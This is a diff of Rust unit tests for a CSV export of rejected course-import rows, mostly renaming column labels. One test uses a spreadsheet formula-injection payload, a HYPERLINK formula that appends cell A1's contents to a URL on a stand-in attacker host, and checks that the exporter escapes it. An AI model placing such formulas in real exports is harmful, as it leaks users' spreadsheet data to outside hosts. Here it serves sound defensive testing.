@@ -428,14 +428,14 @@ mod tests {
         let csv = rejects_csv(&[RowReject {
             line: 7,
             course_code: "2026Fall-X-ENG101-1".into(),
-            column: Some("SLN"),
+            column: Some("section"),
             reason: "not a number, \"x\"".into(),
         }])
         .unwrap();
         let text = String::from_utf8(csv).unwrap();
         assert_eq!(
             text,
-            "line,course_code,column,reason\n7,2026Fall-X-ENG101-1,SLN,\"not a number, \"\"x\"\"\"\n"
+            "line,course_code,column,reason\n7,2026Fall-X-ENG101-1,section,\"not a number, \"\"x\"\"\"\n"
         );
     }
 
@@ -444,15 +444,15 @@ mod tests {
         let csv = rejects_csv(&[RowReject {
             line: 9,
             course_code: "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")".into(),
-            column: Some("TERM"),
-            reason: "-empty TERM".into(),
+            column: Some("term"),
+            reason: "-empty term".into(),
         }])
         .unwrap();
         let text = String::from_utf8(csv).unwrap();
         assert_eq!(
             text,
             "line,course_code,column,reason\n\
-             9,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",TERM,'-empty TERM\n"
+             9,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",term,'-empty term\n"
         );
     }
 
